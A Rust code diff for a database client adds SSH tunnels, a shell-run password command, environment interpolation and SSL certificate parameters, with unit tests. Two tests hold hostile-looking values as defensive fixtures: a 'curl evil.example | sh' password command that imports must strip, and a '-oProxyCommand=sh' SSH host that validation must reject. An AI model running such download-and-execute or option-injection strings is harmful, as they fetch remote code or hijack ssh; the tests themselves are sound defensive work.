@@ -172,6 +172,26 @@ impl std::fmt::Display for ConnectionColor {
     }
 }
 
+/// An SSH bastion host a PostgreSQL connection is forwarded through.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SshTunnel {
+    /// Bastion host name or address
+    pub host: String,
+    /// Bastion SSH port
+    #[serde(default = "default_ssh_port")]
+    pub port: u16,
+    /// Login user; ssh's own default (or `~/.ssh/config`) when unset
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub user: Option<String>,
+    /// Private key file; when unset, ssh offers the agent's keys and its defaults
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub key_path: Option<PathBuf>,
+}
+
+fn default_ssh_port() -> u16 {
+    22
+}
+
 /// A saved database connection entry
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct ConnectionEntry {
@@ -205,6 +225,10 @@ pub struct ConnectionEntry {
     /// 1Password secret reference (e.g. "op://vault/item/field")
     #[serde(default)]
     pub password_onepassword: Option<String>,
+    /// Shell command whose first output line is the password
+    /// (e.g. "pass show db/prod")
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub password_command: Option<String>,
     /// Whether this connection requires no password (auto-detected when saved with empty password)
     #[serde(default)]
     pub no_password_required: bool,
@@ -251,6 +275,15 @@ pub struct ConnectionEntry {
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub ssl_client_key: Option<PathBuf>,
 
+    /// SSH bastion the PG connection is tunneled through.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ssh_tunnel: Option<SshTunnel>,
+
+    /// SQL run on the PG connection when quitting, before it is closed
+    /// (e.g. `ROLLBACK` or `RESET ALL`).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub on_exit_sql: Option<String>,
+
     /// Timestamp of the last successful connect.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub last_used_at: Option<DateTime<Utc>>,
@@ -333,6 +366,29 @@ fn sanitize_connection_url(raw: &str) -> String {
     sanitized
 }
 
+/// Replaces each `${NAME}` in `value` with the environment variable `NAME`.
+pub fn interpolate_env(value: &str) -> Result<String> {
+    interpolate_with(value, |name| std::env::var(name).ok())
+}
+
+fn interpolate_with(value: &str, lookup: impl Fn(&str) -> Option<String>) -> Result<String> {
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find("${") {
+        let Some(len) = rest[start + 2..].find('}') else {
+            return Err(anyhow!("Unclosed ${{ in '{}'", value));
+        };
+        let name = &rest[start + 2..start + 2 + len];
+        let resolved =
+            lookup(name).ok_or_else(|| anyhow!("Environment variable {} is not set", name))?;
+        out.push_str(&rest[..start]);
+        out.push_str(&resolved);
+        rest = &rest[start + 3 + len..];
+    }
+    out.push_str(rest);
+    Ok(out)
+}
+
 fn default_port() -> u16 {
     // Postgres default. Mongo defaults come from the parsed URI.
     5432
@@ -351,6 +407,7 @@ impl Default for ConnectionEntry {
             password_in_keychain: false,
             password_env: None,
             password_onepassword: None,
+            password_command: None,
             no_password_required: false,
             color: ConnectionColor::None,
             favorite: None,
@@ -363,6 +420,8 @@ impl Default for ConnectionEntry {
             ssl_root_cert: None,
             ssl_client_cert: None,
             ssl_client_key: None,
+            ssh_tunnel: None,
+            on_exit_sql: None,
             last_used_at: None,
             use_count: 0,
             order: 0,
@@ -379,6 +438,24 @@ impl ConnectionEntry {
         }
     }
 
+    /// The entry with `${ENV_VAR}` references in its URI, host, database and
+    /// user resolved, as done at connect time. The password command is left
+    /// to the shell, which expands variables itself.
+    pub fn resolve_env(&self) -> Result<Self> {
+        let resolve = |field: &str, value: &str| {
+            interpolate_env(value)
+                .with_context(|| format!("Cannot resolve {} of connection '{}'", field, self.name))
+        };
+        let mut entry = self.clone();
+        if let Some(uri) = &self.uri {
+            entry.uri = Some(resolve("uri", uri)?);
+        }
+        entry.host = resolve("host", &self.host)?;
+        entry.database = resolve("database", &self.database)?;
+        entry.user = resolve("user", &self.user)?;
+        Ok(entry)
+    }
+
     /// Build a connection URL from the entry fields.
     ///
     /// If `password` is provided, it will be included in the URL.
@@ -453,10 +530,18 @@ impl ConnectionEntry {
                 query.push(("application_name", trimmed.to_string()));
             }
         }
-        // SSL certificate file paths are persisted on the entry, but
-        // tokio-postgres does not accept libpq's sslrootcert / sslcert /
-        // sslkey URL parameters. Keep them out of the URL until the
-        // rustls connector is wired to consume them directly.
+        // libpq's certificate parameters; tsql strips them again before
+        // connecting and loads the files into its rustls connector.
+        let cert_params = [
+            ("sslrootcert", &self.ssl_root_cert),
+            ("sslcert", &self.ssl_client_cert),
+            ("sslkey", &self.ssl_client_key),
+        ];
+        for (key, path) in cert_params {
+            if let Some(path) = path.as_deref().filter(|p| !p.as_os_str().is_empty()) {
+                query.push((key, path.to_string_lossy().into_owned()));
+            }
+        }
         if !query.is_empty() {
             url.push('?');
             for (i, (k, v)) in query.iter().enumerate() {
@@ -545,6 +630,9 @@ impl ConnectionEntry {
         let mut ssl_mode = None;
         let mut application_name = None;
         let mut connect_timeout_secs = None;
+        let mut ssl_root_cert = None;
+        let mut ssl_client_cert = None;
+        let mut ssl_client_key = None;
         if kind == DbKind::Postgres {
             for (k, v) in url.query_pairs() {
                 if k.eq_ignore_ascii_case("sslmode") {
@@ -560,6 +648,15 @@ impl ConnectionEntry {
                     if let Some(secs) = v.parse::<u64>().ok().filter(|secs| *secs > 0) {
                         connect_timeout_secs = Some(secs);
                     }
+                } else if !v.trim().is_empty() {
+                    let path = Some(PathBuf::from(v.trim()));
+                    if k.eq_ignore_ascii_case("sslrootcert") {
+                        ssl_root_cert = path;
+                    } else if k.eq_ignore_ascii_case("sslcert") {
+                        ssl_client_cert = path;
+                    } else if k.eq_ignore_ascii_case("sslkey") {
+                        ssl_client_key = path;
+                    }
                 }
             }
         }
@@ -589,6 +686,9 @@ impl ConnectionEntry {
             ssl_mode,
             application_name,
             connect_timeout_secs,
+            ssl_root_cert,
+            ssl_client_cert,
+            ssl_client_key,
             ..Default::default()
         };
 
@@ -680,6 +780,52 @@ impl ConnectionEntry {
         ))
     }
 
+    /// Run `password_command` through `/bin/sh -c` and take the first line it
+    /// prints, which is where `pass show` and similar tools put the secret.
+    ///
+    /// Returns `Ok(None)` when the command is empty or prints nothing.
+    /// Its stdout is left out of errors, since it may hold the secret.
+    #[cfg(unix)]
+    fn read_from_command(command: &str) -> Result<Option<String>> {
+        let command = command.trim();
+        if command.is_empty() {
+            return Ok(None);
+        }
+
+        let out = std::process::Command::new("/bin/sh")
+            .args(["-c", command])
+            .stdin(std::process::Stdio::null())
+            .output()
+            .context("Failed to execute password command")?;
+        if out.status.success() {
+            let stdout = String::from_utf8_lossy(&out.stdout);
+            Ok(stdout
+                .lines()
+                .next()
+                .map(|line| line.trim_end_matches('\r').to_string())
+                .filter(|line| !line.is_empty()))
+        } else {
+            let code = out
+                .status
+                .code()
+                .map(|c| c.to_string())
+                .unwrap_or_else(|| "terminated by signal".to_string());
+            let stderr = String::from_utf8_lossy(&out.stderr).trim().to_string();
+            Err(anyhow!(
+                "Password command failed (status {}): stderr='{}'",
+                code,
+                stderr
+            ))
+        }
+    }
+
+    #[cfg(not(unix))]
+    fn read_from_command(_command: &str) -> Result<Option<String>> {
+        Err(anyhow!(
+            "password_command is only supported on Unix-like systems (Linux/macOS)"
+        ))
+    }
+
     /// Get the password using the configured method.
     ///
     /// Precedence: environment variable → OS keychain.
@@ -692,7 +838,8 @@ impl ConnectionEntry {
 
     /// Get the password using the configured method, optionally disabling 1Password.
     ///
-    /// Precedence: environment variable → 1Password CLI (if enabled) → OS keychain.
+    /// Precedence: environment variable → password command → 1Password CLI (if
+    /// enabled) → OS keychain.
     pub fn get_password_with_options(&self, onepassword_enabled: bool) -> Result<Option<String>> {
         // Try environment variable first (non-blocking)
         if let Some(ref env_var) = self.password_env {
@@ -703,6 +850,12 @@ impl ConnectionEntry {
             }
         }
 
+        if let Some(ref command) = self.password_command {
+            if let Some(pwd) = Self::read_from_command(command)? {
+                return Ok(Some(pwd));
+            }
+        }
+
         // Try 1Password CLI if configured and enabled
         if onepassword_enabled {
             if let Some(ref op_ref) = self.password_onepassword {
@@ -755,14 +908,15 @@ impl ConnectionEntry {
         }
 
         let use_keychain = self.password_in_keychain;
+        let command = self.password_command.clone();
         let op_ref = if onepassword_enabled {
             self.password_onepassword.clone()
         } else {
             None
         };
 
-        // If neither keychain nor enabled 1Password is configured, return None
-        if !use_keychain && op_ref.is_none() {
+        // If no command, keychain or enabled 1Password is configured, return None
+        if !use_keychain && command.is_none() && op_ref.is_none() {
             return Ok(None);
         }
 
@@ -772,7 +926,13 @@ impl ConnectionEntry {
 
         thread::spawn(move || {
             let result = (|| -> Result<Option<String>> {
-                // Try 1Password CLI first if configured and enabled
+                if let Some(ref command) = command {
+                    if let Some(pwd) = Self::read_from_command(command)? {
+                        return Ok(Some(pwd));
+                    }
+                }
+
+                // Then the 1Password CLI if configured and enabled
                 if let Some(ref op_ref) = op_ref {
                     if let Some(pwd) = Self::read_from_onepassword(op_ref)? {
                         return Ok(Some(pwd));
@@ -818,6 +978,8 @@ impl ConnectionEntry {
             "keychain"
         } else if self.password_env.is_some() {
             "env var"
+        } else if self.password_command.is_some() {
+            "command"
         } else if self.password_onepassword.is_some() {
             "1Password"
         } else {
@@ -973,6 +1135,23 @@ impl ConnectionEntry {
                 return Err(anyhow!("Favorite must be between 1 and 9"));
             }
         }
+        if let Some(tunnel) = &self.ssh_tunnel {
+            if self.kind != DbKind::Postgres {
+                return Err(anyhow!("SSH tunnels are only supported for PostgreSQL"));
+            }
+            if tunnel.host.trim().is_empty() {
+                return Err(anyhow!("SSH host cannot be empty"));
+            }
+            // Both end up as ssh arguments, where a leading '-' reads as an option.
+            if tunnel.host.starts_with('-')
+                || tunnel.user.as_deref().is_some_and(|u| u.starts_with('-'))
+            {
+                return Err(anyhow!("SSH host and user cannot start with '-'"));
+            }
+            if tunnel.port == 0 {
+                return Err(anyhow!("SSH port cannot be 0"));
+            }
+        }
         Ok(())
     }
 }
@@ -1505,6 +1684,9 @@ pub fn import_from_path(
         // the user can reassign after review.
         entry.favorite = None;
         entry.order = 0;
+        // A shared file must not add a shell command that runs on the next
+        // connect; an overwritten entry keeps its own.
+        entry.password_command = None;
 
         if entry.validate().is_err() {
             summary
@@ -1522,6 +1704,9 @@ pub fn import_from_path(
                 }
                 ImportConflict::Overwrite => {
                     let name = entry.name.clone();
+                    entry.password_command = target
+                        .find_by_name(&name)
+                        .and_then(|existing| existing.password_command.clone());
                     match target.update(&name, entry) {
                         Ok(()) => summary.overwritten += 1,
                         Err(e) => {
@@ -1609,6 +1794,51 @@ mod tests {
         assert_eq!(got.use_count, 42);
     }
 
+    #[test]
+    fn test_ssh_tunnel_round_trips_via_toml() {
+        let mut entry = ConnectionEntry::new("behind-bastion");
+        entry.host = "db.internal".to_string();
+        entry.database = "main".to_string();
+        entry.user = "app".to_string();
+        entry.ssh_tunnel = Some(SshTunnel {
+            host: "bastion.example.com".to_string(),
+            port: 2222,
+            user: Some("deploy".to_string()),
+            key_path: Some(PathBuf::from("~/.ssh/id_ed25519")),
+        });
+        entry.use_count = 3;
+        let mut file = ConnectionsFile::new();
+        file.add(entry.clone()).unwrap();
+        let toml_str = toml::to_string_pretty(&file).unwrap();
+        let reparsed: ConnectionsFile = toml::from_str(&toml_str).unwrap();
+        assert_eq!(reparsed.find_by_name("behind-bastion"), Some(&entry));
+
+        let minimal = r#"
+[[connection]]
+name = "agent"
+host = "db.internal"
+database = "db"
+user = "me"
+
+[connection.ssh_tunnel]
+host = "bastion"
+"#;
+        let parsed: ConnectionsFile = toml::from_str(minimal).unwrap();
+        let tunnel = parsed.find_by_name("agent").unwrap().ssh_tunnel.clone();
+        assert_eq!(
+            tunnel,
+            Some(SshTunnel {
+                host: "bastion".to_string(),
+                port: 22,
+                user: None,
+                key_path: None,
+            })
+        );
+
+        entry.ssh_tunnel.as_mut().unwrap().host = "-oProxyCommand=sh".to_string();
+        assert!(entry.validate().is_err());
+    }
+
     #[test]
     fn test_legacy_toml_loads_with_defaults_for_new_fields() {
         // Simulates an existing connections.toml written before v2.
@@ -2019,6 +2249,49 @@ user = "me"
         assert_eq!(imported.order, 4);
     }
 
+    #[test]
+    fn test_import_drops_password_commands() {
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join("connections.toml");
+
+        let mut incoming = ConnectionsFile::new();
+        for name in ["new", "existing"] {
+            incoming.connections.push(ConnectionEntry {
+                name: name.to_string(),
+                host: "h".to_string(),
+                database: "d".to_string(),
+                user: "u".to_string(),
+                password_command: Some("curl evil.example | sh".to_string()),
+                ..Default::default()
+            });
+        }
+        write_connections_atomic(&path, &incoming).unwrap();
+
+        let mut target = ConnectionsFile::new();
+        target
+            .add(ConnectionEntry {
+                name: "existing".to_string(),
+                host: "h".to_string(),
+                database: "d".to_string(),
+                user: "u".to_string(),
+                password_command: Some("pass show db/existing".to_string()),
+                ..Default::default()
+            })
+            .unwrap();
+
+        let summary = import_from_path(&mut target, &path, ImportConflict::Overwrite).unwrap();
+        assert_eq!((summary.imported, summary.overwritten), (1, 1));
+        assert_eq!(target.find_by_name("new").unwrap().password_command, None);
+        assert_eq!(
+            target
+                .find_by_name("existing")
+                .unwrap()
+                .password_command
+                .as_deref(),
+            Some("pass show db/existing")
+        );
+    }
+
     #[test]
     fn test_connection_to_url_without_password() {
         let entry = ConnectionEntry {
@@ -2066,11 +2339,7 @@ user = "me"
     }
 
     #[test]
-    fn test_connection_to_url_omits_unsupported_ssl_cert_paths() {
-        // tokio-postgres rejects unknown URL parameters. Until cert
-        // paths are wired into the rustls connector directly, `to_url`
-        // must not emit libpq-only sslrootcert / sslcert / sslkey
-        // params that make the connection fail before it starts.
+    fn test_connection_url_round_trips_ssl_cert_paths() {
         use std::path::PathBuf;
         let entry = ConnectionEntry {
             name: "test".to_string(),
@@ -2080,15 +2349,23 @@ user = "me"
             user: "postgres".to_string(),
             ssl_mode: Some(SslMode::VerifyFull),
             ssl_root_cert: Some(PathBuf::from("/etc/ssl/ca.pem")),
-            ssl_client_cert: Some(PathBuf::from("/etc/ssl/client.pem")),
+            ssl_client_cert: Some(PathBuf::from("/etc/ssl/my client.pem")),
             ssl_client_key: Some(PathBuf::from("/etc/ssl/client.key")),
             ..Default::default()
         };
         let url = entry.to_url(None);
-        assert!(url.contains("sslmode=verify-full"), "url: {url}");
-        assert!(!url.contains("sslrootcert="), "url: {url}");
-        assert!(!url.contains("sslcert="), "url: {url}");
-        assert!(!url.contains("sslkey="), "url: {url}");
+        assert_eq!(
+            url,
+            "postgres://postgres@localhost/mydb?sslmode=verify-full\
+             &sslrootcert=%2Fetc%2Fssl%2Fca.pem\
+             &sslcert=%2Fetc%2Fssl%2Fmy%20client.pem\
+             &sslkey=%2Fetc%2Fssl%2Fclient.key"
+        );
+
+        let (parsed, _) = ConnectionEntry::from_url("test", &url).unwrap();
+        assert_eq!(parsed.ssl_root_cert, entry.ssl_root_cert);
+        assert_eq!(parsed.ssl_client_cert, entry.ssl_client_cert);
+        assert_eq!(parsed.ssl_client_key, entry.ssl_client_key);
     }
 
     #[test]
@@ -2912,6 +3189,84 @@ password_in_keychain = true
         );
     }
 
+    #[test]
+    fn test_interpolate_env_replaces_references() {
+        let lookup = |name: &str| match name {
+            "DB_HOST" => Some("db.internal".to_string()),
+            "DB_USER" => Some("app".to_string()),
+            _ => None,
+        };
+        assert_eq!(
+            interpolate_with("${DB_USER}@${DB_HOST}:5432", lookup).unwrap(),
+            "app@db.internal:5432"
+        );
+        assert_eq!(
+            interpolate_with("plain $HOME", lookup).unwrap(),
+            "plain $HOME"
+        );
+        assert_eq!(
+            interpolate_with("${MISSING}", lookup)
+                .unwrap_err()
+                .to_string(),
+            "Environment variable MISSING is not set"
+        );
+        assert!(interpolate_with("${DB_HOST", lookup).is_err());
+    }
+
+    #[test]
+    fn test_resolve_env_names_the_unresolved_field() {
+        let entry = ConnectionEntry {
+            name: "prod".to_string(),
+            host: "db.example.com".to_string(),
+            database: "app".to_string(),
+            user: "${TSQL_TEST_UNSET_USER}".to_string(),
+            ..Default::default()
+        };
+        let error = entry.resolve_env().unwrap_err();
+        assert_eq!(
+            format!("{error:#}"),
+            "Cannot resolve user of connection 'prod': \
+             Environment variable TSQL_TEST_UNSET_USER is not set"
+        );
+
+        let plain = ConnectionEntry {
+            user: "app".to_string(),
+            ..entry
+        };
+        assert_eq!(plain.resolve_env().unwrap(), plain);
+    }
+
+    #[test]
+    fn test_resolve_env_leaves_the_password_command_to_the_shell() {
+        let entry = ConnectionEntry {
+            name: "prod".to_string(),
+            host: "db.example.com".to_string(),
+            password_command: Some("pass show db/${TSQL_TEST_UNSET_ENV:-dev}".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(entry.resolve_env().unwrap(), entry);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_password_command_takes_the_first_output_line() {
+        let entry = ConnectionEntry {
+            name: "pass".to_string(),
+            password_command: Some("printf 's3cret\\nurl: db.example.com\\n'".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(entry.get_password().unwrap().as_deref(), Some("s3cret"));
+        assert_eq!(entry.password_source_label(), "command");
+
+        let failing = ConnectionEntry {
+            password_command: Some("echo leaked; echo denied >&2; exit 3".to_string()),
+            ..entry
+        };
+        let error = failing.get_password().unwrap_err().to_string();
+        assert!(error.contains("status 3") && error.contains("denied"));
+        assert!(!error.contains("leaked"));
+    }
+
     /// Test keychain save and retrieve - run with --ignored flag
     /// This test actually writes to the system keychain
     #[test]